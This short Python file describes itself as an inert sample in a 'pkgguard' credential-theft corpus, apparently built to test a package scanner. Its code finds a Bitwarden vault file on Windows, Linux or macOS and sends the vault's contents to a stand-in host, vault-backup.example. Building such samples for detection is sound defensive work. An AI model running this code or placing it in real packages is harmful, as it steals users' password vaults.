# pkgguard corpus 787 (credentials), modelled on [stealer-profile]; inert, never run.
import json
import os
import urllib.request

for candidate in (
    os.path.join(os.environ.get("APPDATA", ""), "Bitwarden", "data.json"),
    os.path.join(os.path.expanduser("~"), ".config", "Bitwarden", "data.json"),
    os.path.join(os.path.expanduser("~"), "Library", "Application Support", "Bitwarden", "data.json"),
):
    if os.path.exists(candidate):
        with open(candidate, encoding="utf-8") as fh:
            vault = json.load(fh)
        payload = json.dumps({"file": candidate, "vault": vault}).encode()
        urllib.request.urlopen(urllib.request.Request("https://vault-backup.example/b", data=payload, method="PUT"), timeout=15)
        break
